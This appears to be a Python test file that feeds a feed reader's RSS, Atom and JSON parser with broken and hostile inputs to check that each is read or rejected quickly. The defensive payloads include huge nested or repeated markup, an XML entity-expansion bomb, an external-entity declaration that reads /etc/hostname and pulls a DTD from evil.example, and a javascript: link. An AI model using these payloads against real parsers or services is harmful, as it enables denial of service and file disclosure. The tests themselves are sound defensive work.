# ruff: noqa: E501  invented elements stay on one line
"""Odd and hostile feeds: each is read or fails with a reason, soon, and costs nobody else anything."""

import json
import time
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from manytold.model.outcomes import Failed
from manytold.read.feed_text import MAX_ITEM
from manytold.read.feed_told import MAX_ENTRIES, MAX_LEFT_OUT
from manytold.read.feeds import FeedReading, read_feed
from tests.read.odd_feeds import odd_feeds
from tests.read.pages import make_bytes, make_page

HOME = "https://www.harbourpost.example/feed/"
RSS = '<rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>H</title>{}</channel></rss>'
ITEM = "<item><title>T{0}</title><link>/{0}</link></item>"
SOON_S = 10
"""Processor seconds that no feed may take; the slowest of these takes three on a slow machine."""


def read(body: str | bytes) -> FeedReading | Failed:
    begun = time.process_time()
    answer = read_feed(make_page(body, url=HOME, media_type="text/xml"))
    assert time.process_time() - begun < SOON_S
    assert isinstance(answer, FeedReading | Failed)
    assert make_bytes(answer)
    if isinstance(answer, Failed):
        assert answer.reason.startswith("the feed "), answer
    return answer


def good(body: str | bytes) -> FeedReading:
    answer = read(body)
    assert isinstance(answer, FeedReading), answer
    return answer


@pytest.mark.parametrize(("name", "body"), odd_feeds(200), ids=lambda value: value if isinstance(value, str) else "")
def test_two_hundred_odd_feeds(name: str, body: bytes) -> None:
    answer = read(body)
    if isinstance(answer, FeedReading):
        assert all(entry.url.startswith(("http://", "https://")) for entry in answer.entries)
        assert len({entry.url for entry in answer.entries}) == len(answer.entries)
        assert all(skipped.reason for skipped in answer.left_out)


def test_most_odd_feeds_are_read() -> None:
    """Of a hundred feeds broken in one way each, nearly all still tell entries."""
    readings = [read(body) for _, body in odd_feeds(80)]
    told = sum(isinstance(reading, FeedReading) and bool(reading.entries) for reading in readings)
    assert told >= 65, told


HOSTILE = {
    "a name of one letter": RSS.format("<item><author>" + "a" * 140_000 + "</author><link>/a</link></item>&"),
    "a name of dots": RSS.format("<item><author>a@" + "a." * 60_000 + "</author><link>/a</link></item>&"),
    "a name of references": RSS.format("<item><author>" + "&#97;" * 25_000 + "</author><link>/a</link></item>&"),
    "names without end": RSS.format("<item>" + "<author>" + "a-" * 900 + "<dc:creator>" + "a." * 60_000 + "</item>"),
    "many keywords": RSS.format("".join("<item><itunes:keywords>" + "".join(f"{n}," for n in range(20_000)) + "</itunes:keywords></item>" for _ in range(20)) + "&"),
    "many categories": RSS.format(("<item>" + "".join(f"<category>{n}</category>" for n in range(4_000)) + "</item>") * 20 + "&"),
    "many namespaces": RSS.format("<item>" + "".join(f'<a{n}:b xmlns:a{n}="u{n}"/>' for n in range(100_000)) + "</item>"),
    "many small elements": RSS.format("".join(f"<item><link>/{n}</link>" + "<p>x</p>" * 400 + "</item>" for n in range(1_000)) + "&"),
    "a hundred thousand nested": RSS.format("<item>" + "<b>" * 100_000 + "</item>"),
    "nested and closed": RSS.format("<item>" + "<b>" * 40_000 + "</b>" * 40_000 + "</item>"),
    "nested in content": '<feed xmlns="http://www.w3.org/2005/Atom"><entry><content type="xhtml">' + "<div>" * 240 + "</div>" * 240 + "</content></entry></feed>",
    "brackets": RSS.format(("<item>" + "<" * 140_000 + "</item>") * 20),
    "quotes": RSS.format(("<item><a " + 'b="' * 40_000 + "</item>") * 20),
    "ampersands": RSS.format(("<item><title>" + "&" * 140_000 + "</title></item>") * 20),
    "open sections": RSS.format(("<item>" + "<![CDATA[" * 14_000 + "</item>") * 20),
    "open comments": "<!--" * 1_000_000,
    "blanks": "<rss>" + " " * 9_000_000,
    "an unclosed declaration": "<!DOCTYPE rss [" + '<!ENTITY a "b">' * 100_000,
    "skipped hours": RSS.format("<skipHours>" * 10_000),
    "a base of a base": RSS.format('<item xml:base="/' + "a/" * 70_000 + '"><link xml:base="b/">c</link></item>'),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_feeds_end_soon(name: str) -> None:
    read(HOSTILE[name])


def test_entity_bombs_and_outside_entities_and_small_declared_ones() -> None:
    layers = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE rss [<!ENTITY l0 "ha">{layers}]>' + RSS.format("<item><title>&l9;</title><link>/a</link></item>")
    assert isinstance(read(bomb), Failed)
    outside = (
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/hostname"><!ENTITY % y SYSTEM "https://evil.example/y.dtd">]>'
    )
    assert good(outside + RSS.format("<item><title>[&x;]</title><link>/a</link></item>")).entries[0].title in (
        "[]",
        "[&x;]",
    )
    small = '<!DOCTYPE rss [<!ENTITY nbsp "&#160;"><!ENTITY post "Harbour Post"><!ENTITY uuml "&#252;">]>'
    title = "<item><title>&post;:&nbsp;T&uuml;r</title><link>/a</link></item>"
    assert good(small + RSS.format(title)).entries[0].title == "Harbour Post: Tür"


def test_a_hundred_thousand_items_and_a_title_of_ten_megabytes() -> None:
    reading = good(RSS.format("".join(ITEM.format(n) for n in range(100_000))))
    assert (len(reading.entries), reading.entries[0].title) == (MAX_ENTRIES, "T0")
    assert any("of which the first 1,000 are read" in one.reason for one in reading.left_out)
    giant = good(RSS.format("<item><title>" + "w " * 4_900_000 + "</title><link>/g</link></item>" + ITEM.format(1)))
    assert [entry.title for entry in giant.entries] == ["T1"]
    assert f"more than {MAX_ITEM:,}" in giant.left_out[0].reason


def test_dates_of_the_future_stay_the_claim_that_they_are() -> None:
    item = "<item><title>T</title><link>/a</link><pubDate>Mon, 05 May 2087 08:00:00 GMT</pubDate></item>"
    assert good(RSS.format(item)).entries[0].published == datetime(2087, 5, 5, 8, tzinfo=UTC)


def test_ids_and_addresses_of_others_stay_claims_of_this_feed() -> None:
    stolen = (
        "<item><title>T</title><link>https://rival.example/story</link><guid>https://rival.example/story</guid></item>"
    )
    (entry,) = good(RSS.format(stolen)).entries
    assert (entry.feed, entry.url, entry.id) == (HOME, "https://rival.example/story", "https://rival.example/story")


@pytest.mark.parametrize(
    "sign", ["\u202e", "\u2066", "\u200f", "\u200b", "&#x202e;", "&amp;#x202e;", "\U000e0041", "\x07"]
)
def test_signs_that_hide_or_turn_text_are_taken_out(sign: str) -> None:
    item = f"<item><title>Fer{sign}ry</title><link>/a</link><author>Il{sign}sa</author><description>W{sign}ords</description></item>"
    (entry,) = good(RSS.format(item)).entries
    assert (entry.title, entry.authors, entry.summary) == ("Ferry", ("Ilsa",), "Words")


@pytest.mark.parametrize(
    ("item", "reason"),
    [
        ("<title>A</title>", "it has no link"),
        ("<title>A</title><link>javascript:alert(1)</link>", "its link is no http or https address"),
        ("<title>A</title><guid>urn:uuid:1</guid>", "its link is no http or https address"),
        ("<title>A</title><link>/" + "a" * 3_000 + "</link>", "its link is no http or https address"),
        (
            '<title>A</title><enclosure url="/a.mp3" type="audio/mpeg"/>',
            "it has a recording or another file, but no page",
        ),
    ],
)
def test_items_that_become_no_entry_are_named_with_the_reason(item: str, reason: str) -> None:
    reading = good(RSS.format(f"<item>{item}</item>" + ITEM.format(1)))
    (left_out,) = reading.left_out
    assert left_out.what == f"{HOME}, item 1 “A”"
    assert left_out.reason.startswith(reason)
    assert len(reading.entries) == 1


def test_many_left_out_items_are_counted() -> None:
    reading = good(RSS.format("<item><title>A</title></item>" * 300))
    assert len(reading.left_out) == MAX_LEFT_OUT + 1
    assert reading.left_out[-1].reason == f"{300 - MAX_LEFT_OUT} further items of the feed were left out"


PIECES = ("<item>", "</item>", "<entry>", "</entry>", "<title>", "</title>", "<link>", "</link>", '<link href="/a"/>', "<![CDATA[", "]]>", "&", "&nbsp;", "&#x0;", "<!--", "-->", "<!DOCTYPE", "[<!ENTITY a 'b'>]>", "&a;", "http://x.example/", "é", "\0", "\ufeff", "<rss version='2.0'>", "</rss>", "<channel>", "</channel>", "<feed xmlns='http://www.w3.org/2005/Atom'>", "</feed>", "<guid>", "<pubDate>", "2031-05-05", "<author>", "</author>", "<source>", "</source>", "<image>", "xml:base='//'", "<content type='xhtml'>", "<media:group>", "<?x", "?>", "<a:b xmlns:a='u'>", "<svg>", "<width>", "</width>", "<dcterms:valid>", "</dcterms:valid>")  # fmt: skip
SCRAPS = st.lists(st.sampled_from(PIECES) | st.text(max_size=5), max_size=40).map("".join)


@settings(max_examples=250, deadline=None)
@given(
    st.one_of(
        SCRAPS,
        SCRAPS.map(RSS.format),
        st.binary(max_size=300),
        SCRAPS.map(lambda text: text.encode("utf-16", "ignore")),
    )
)
def test_any_scraps_have_an_answer(body: str | bytes) -> None:
    read(body)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=9) | st.sampled_from(("/a", "https://x.example/", "WebSub")),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(("items", "url", "id", "title", "hubs", "authors", "author", "name", "type", "attachments", "date_published", "language", "content_html", "image", "external_url", "feed_url")), inner, max_size=6),
    max_leaves=25,
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(JSON, st.lists(JSON, max_size=4))
def test_any_json_has_an_answer(feed: object, items: list[object]) -> None:
    whole = (feed | {"items": items}) if isinstance(feed, dict) else {"items": items, "title": feed}
    read(json.dumps(whole))
